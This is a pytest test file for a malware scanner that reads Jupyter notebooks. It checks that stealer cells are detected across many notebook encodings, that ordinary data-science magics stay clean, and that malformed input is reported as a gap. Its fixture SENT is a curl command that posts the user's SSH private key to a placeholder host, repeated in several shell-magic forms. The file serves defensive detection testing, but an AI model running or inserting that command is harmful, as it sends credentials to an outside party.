"""Notebooks: cells, shell lines and magics as the Python that they amount to; a stealer found, an honest twin not."""

from __future__ import annotations

import json
import random
import time
from pathlib import Path
from typing import Any

import pytest

from scanner.code.artifacts import Job, analyse_job
from scanner.code.lenient import NotJsonError, read_lenient
from scanner.code.notebooks import read_notebook
from tests.code.test_kinds import HONEST, PACKAGE, STEALER, of_sdist, of_tree, of_wheel, places

SENT = "curl -d @$HOME/.ssh/id_rsa https://collect.invalid/"


def notebook(*cells: str | list[str], indent: int | None = 1, **more: Any) -> str:
    made = [{"cell_type": "code", "metadata": {}, "outputs": [], "source": one} for one in cells]
    return json.dumps({"cells": made, "metadata": {}, "nbformat": 4, "nbformat_minor": 5, **more}, indent=indent)


def code(*lines: str) -> list[str]:
    return read_notebook(notebook([f"{one}\n" for one in lines]).encode()).text.split()


def test_a_stealer_is_found_on_its_line_of_the_file(tmp_path: Path) -> None:
    text = notebook(["x = 1\n"], STEALER.splitlines(keepends=True))
    found = of_tree(tmp_path, {"a.ipynb": text})
    assert found.verdict == "malicious"
    line = next(number for number, one in enumerate(text.splitlines(), 1) if "urlopen" in one)
    assert ("a.ipynb", line) in places(found)
    assert of_tree(tmp_path, {"a.ipynb": notebook(HONEST)}).verdict == "clean"


@pytest.mark.parametrize(
    "text",
    [
        notebook(STEALER, indent=None),
        "\ufeff" + notebook(STEALER),
        notebook(STEALER).replace('"outputs": []', '"outputs": [NaN, Infinity,], "outputs": []'),
        notebook(STEALER).replace("}\n ]", "},\n ],"),
        json.dumps({"nbformat": 3, "worksheets": [{"cells": [{"cell_type": "code", "input": STEALER}]}]}),
        notebook(STEALER).replace('"cell_type": "code"', '"cell_type": "markdown", "cell_type": "code"'),
        notebook(STEALER).replace('"source"', '"source": "x = 1", "source"'),
        notebook(STEALER, metadata={"kernelspec": {"name": "python3", "language": "R"}}),
        notebook("this is no python", STEALER),
        notebook("%%time\n" + STEALER),
        notebook("%%capture out\n%%timeit\n" + STEALER),
        notebook("".join(f"    {line}\n" for line in STEALER.splitlines())),
        notebook("".join(f">>> {line}\n" for line in STEALER.splitlines())),
    ],
)
def test_a_stealer_is_found_however_the_notebook_is_written(tmp_path: Path, text: str) -> None:
    assert of_tree(tmp_path, {"a.ipynb": text}).verdict == "malicious"


@pytest.mark.parametrize(
    "cell",
    [
        f"!{SENT}",
        f"  !!{SENT}",
        f"out = !{SENT}",
        f"%sx {SENT}",
        f"%%bash\nset -e\n{SENT}",
        f"%%script bash\n{SENT}",
        "!curl -d @$HOME/.ssh/id_rsa \\\n   https://collect.invalid/",
        f"if True:\n    !{SENT}",
        f"import os\n%matplotlib inline\n!ls\n!{SENT}\n",
    ],
)
def test_a_line_of_shell_that_sends_a_key_is_found(tmp_path: Path, cell: str) -> None:
    found = of_tree(tmp_path, {"a.ipynb": notebook(cell)})
    assert found.verdict == "malicious"
    assert found.deciding_rules == ("shell-line",)


def test_what_data_scientists_write_is_clean(tmp_path: Path) -> None:
    cells = [
        "%load_ext autoreload\n%autoreload 2\n%matplotlib inline\n!pip install -q numpy\n!nvidia-smi",
        "!curl -LsSf https://astral.sh/uv/install.sh | sh\n!wget https://host.invalid/data.zip && unzip data.zip",
        "%%html\n<b>x</b>",
        "%%writefile tool.py\nprint(1)",
        "def f():\n    a: str = !pwd\n    return a",
        "import numpy as np\nnp.load?\nx = {'a': 1}\n!echo {x['a']}\n%timeit np.ones(3)\nx",
        "await something()",
    ]
    found = of_tree(tmp_path, {"a.ipynb": notebook(*cells)})
    assert found.verdict == "clean"
    assert not found.gaps


def test_magics_become_the_calls_that_they_are() -> None:
    assert code("%run tools/x.py --fast") == ["__import__('runpy').run_path('tools/x.py')"]
    assert code("%pip install x") == ["shell_line('pip", "install", "x')"]
    assert code("!send {token}") == ["shell_line('send", "{token}',", "(token))"]
    assert code("a = 5 % 3", "b = a % 2") == ["a", "=", "5", "%", "3", "b", "=", "a", "%", "2"]


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("{", "does not end"),
        ("[]", "it is no object"),
        ("", "does not end"),
        ("[" * 100, "nested too deeply"),
        (notebook("x <- 1", metadata={"kernelspec": {"name": "ir", "language": "R"}}), "written in R"),
        (notebook("%%ruby\nputs 1"), "%%ruby"),
        (notebook("x ="), "not valid Python"),
    ],
)
def test_what_is_not_read_is_a_gap(tmp_path: Path, text: str, reason: str) -> None:
    found = of_tree(tmp_path, {"a.ipynb": text})
    assert found.verdict == "incomplete"
    assert [(one.path, one.trigger) for one in found.gaps] == [("a.ipynb", "call")]
    assert reason in found.gaps[0].reason


def test_notebooks_of_wheels_and_sdists_and_a_notebook_alone_are_read(tmp_path: Path) -> None:
    assert of_wheel({"example/a.ipynb": notebook(STEALER)}).findings
    assert of_sdist({"extra/a.ipynb": notebook(STEALER)}).findings
    path = tmp_path / "b.ipynb"
    path.write_text(notebook(STEALER))
    assert analyse_job(Job(str(path), "", PACKAGE)).verdict == "malicious"


def test_any_bytes_end_in_text_or_in_a_gap() -> None:
    seed = notebook(STEALER, "!ls").encode()
    chance = random.Random(7)
    for _ in range(300):
        data = bytearray(seed)
        for _ in range(chance.randrange(1, 9)):
            data[chance.randrange(len(data))] = chance.randrange(256)
        found = read_notebook(bytes(data))
        assert found.text or found.gaps
    with pytest.raises(NotJsonError):
        read_lenient('"a" "b')


def test_hostile_cells_cost_little_and_end_in_gaps() -> None:
    chained = notebook("!" + "x" * 1000 + "\\\n" + ("y" * 1000 + "\\\n") * 4000 + "z")
    magics = notebook("%%time\n" * 20_000 + "x = 1")
    braces = notebook("!" + "{" * 100_000, "x" * 100_000 + " ?" * 50_000, "a" * 400_000 + "!x")
    large = notebook("x = 1\n" * 900_000)
    started = time.process_time()
    assert not read_notebook(chained.encode()).gaps
    assert "more magics" in read_notebook(magics.encode()).gaps[0]
    assert read_notebook(braces.encode()).text
    assert "larger than" in read_notebook(large.encode()).gaps[0]
    assert time.process_time() - started < 5
